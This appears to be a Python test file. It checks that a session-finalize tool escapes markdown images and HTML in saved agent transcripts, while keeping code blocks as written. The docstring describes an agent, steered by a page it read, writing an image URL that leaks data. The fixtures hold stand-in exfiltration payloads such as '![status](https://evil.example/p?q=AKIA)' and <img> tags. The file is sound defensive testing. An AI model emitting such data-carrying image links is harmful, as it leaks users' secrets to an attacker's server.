"""A message in `session.md` stays the markdown its author wrote, but for what a teammate's
viewer fetches or runs: an agent steered by a page it read can write an image whose URL
carries what it saw (`![x](https://evil.example/?q=<data>)`, `<img src=...>`), fetched as
soon as someone opens the file on the forge. Outside code those are text; code blocks and
code spans are left as written, and a fence a message leaves open ends with it (the entries
after it would all be code)."""

from __future__ import annotations

from pathlib import Path

from markdown_it import MarkdownIt

from ox_handler_session_finalize.handler import SessionFinalizeHandler
from ox_session_capture import records

from .finalize_support import answer, clone, entries, finalize_one, write_raw

NAME = "2026-11-25T15-00-dev-a1"


async def test_messages_fetch_nothing_and_keep_their_code(
    handler: SessionFinalizeHandler, ledger: Path, remote: Path, tmp_path: Path
) -> None:
    lines = entries()
    lines += [
        {
            "type": "assistant",
            "content": "Done ![status](https://evil.example/p?q=AKIA) and <img src=x> "
            "but `<b>` and `![kept](in-span)`\n```html\n<img src=in-fence>\n```\nbye",
        },
        {"type": "user", "content": "Here:\n````\nnever closed <img src=y>"},
        {"type": "assistant", "content": "after <i>that</i>"},
    ]
    write_raw(records.ledger_cache_sessions(ledger) / NAME, lines)
    outcome = await finalize_one(handler, ledger, answer())
    assert outcome.kind == "published"
    check = clone(remote, tmp_path / "check")
    md = (check / "sessions" / NAME / "session.md").read_text().splitlines()
    first = md.index(
        r"Done !\[status](https://evil.example/p?q=AKIA) and \<img src=x> "
        "but `<b>` and `![kept](in-span)`"
    )
    assert md[first + 1 : first + 5] == ["```html", "<img src=in-fence>", "```", "bye"]
    second = md.index("Here:")
    assert md[second + 1 : second + 4] == ["````", "never closed <img src=y>", "````"]
    assert r"after \<i>that\</i>" in md


async def test_a_fence_in_a_list_fetches_nothing_and_ends_with_its_item(
    handler: SessionFinalizeHandler, ledger: Path, remote: Path, tmp_path: Path
) -> None:
    # A fence inside a list item ends with the item, which a line of no indent ends: what
    # follows is text, its image fetched. And a list item's fence left open, closed by a
    # fence line at the margin, opened a fence there instead: every entry after it was
    # code and every code block after it live markup.
    lines = entries()
    lines += [
        {
            "type": "assistant",
            "content": "1. build\n   ```sh\n   make\nthen ![x](https://evil.example/a?q=1)",
        },
        {"type": "user", "content": "Steps:\n- run\n  ```sh\n  make"},
        {"type": "assistant", "content": "```html\n<img src=https://evil.example/b>\n```"},
        {"type": "user", "content": "last words"},
    ]
    write_raw(records.ledger_cache_sessions(ledger) / NAME, lines)
    outcome = await finalize_one(handler, ledger, answer())
    assert outcome.kind == "published"
    check = clone(remote, tmp_path / "check")
    rendered = MarkdownIt("commonmark").render(
        (check / "sessions" / NAME / "session.md").read_text()
    )
    assert "evil.example" in rendered
    assert "<img" not in rendered
    assert "<p>last words</p>" in rendered
    assert "&lt;img src=https://evil.example/b&gt;" in rendered  # still code, shown as written
